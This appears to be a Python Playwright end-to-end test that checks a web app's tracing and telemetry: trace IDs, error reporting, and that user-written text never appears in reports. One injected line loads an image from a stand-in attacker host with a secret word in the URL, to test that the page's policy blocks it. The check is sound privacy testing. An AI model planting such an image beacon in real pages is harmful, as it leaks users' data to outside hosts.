"""What the page tells of itself: its own spans, broken scripts, what its policy forbade. `telling.py BASE FLOW`."""

import json
import re
import sys

from browser import Browser, Person, add, is_true, row, sign_up, until

# In no span, no metric and no log line.
SECRET = "marzipan"


def tell(browser, page):
    """Prints the trace of what was just done, as the note at the bottom shows it."""
    page.locator(".toast").get_by_role("button", name="Trace").click()
    trace = page.locator(".trace-dialog code").first.inner_text()
    is_true(re.fullmatch(r"[0-9a-f]{32}", trace), f"no trace id: {trace}")
    link = page.locator(".trace-dialog a")
    address = link.get_attribute("href") if link.count() else None
    page.keyboard.press("Escape")
    page.locator("dialog").wait_for(state="detached")
    return {"trace": trace, "inspector": address}


def a_task_and_its_trace(base):
    """A task made on the page; a script that breaks; a picture that the policy keeps away."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = Browser(playwright, base)
        try:
            page = browser.context().new_page()
            told = []
            page.on("request", lambda request: told.append(request) if request.url.endswith("/api/v1/telemetry") else None)
            sign_up(page, Person(base))
            page.goto(base + "/app/all")
            add(page, f"Buy {SECRET} tomorrow 9:00 #{SECRET} !high")
            row(page, f"Buy {SECRET}").wait_for()
            shown = tell(browser, page)
            # The same trace stands in the history of the task.
            row(page, f"Buy {SECRET}").locator(".row-title").click()
            page.locator(".event").get_by_role("button", name="Show trace").first.click()
            is_true(page.locator(".trace-dialog code").first.inner_text() == shown["trace"], "the history has another trace")
            page.keyboard.press("Escape")
            page.evaluate(f"setTimeout(() => {{ throw new TypeError('{SECRET}') }}, 0)")
            page.evaluate(f"void Promise.reject(new RangeError('{SECRET}'))")
            page.evaluate(f"(() => {{ const image = new Image(); image.src = 'https://evil.example/{SECRET}.png'; }})()")

            def sent(word):
                # Whatever the browser has to say is heard while it is asked something.
                page.evaluate("0")
                return any(word in (request.post_data or "") for request in told)

            for word in ("task.create", "TypeError", "RangeError"):
                until(lambda: sent(word), f"the page did not tell of {word}")
            # What is told last is told when the page is left; whether it arrives is seen there.
            page.goto(base + "/favicon.svg")
            for request in told:
                is_true(SECRET not in (request.post_data or ""), "what people wrote is in a report")
            is_true(len(browser.faults) >= 3, f"no faults were seen: {browser.faults}")
            print(json.dumps(shown))
        finally:
            browser.close()


FLOWS = {flow.__name__: flow for flow in (a_task_and_its_trace,)}

if __name__ == "__main__":
    FLOWS[sys.argv[2]](sys.argv[1])
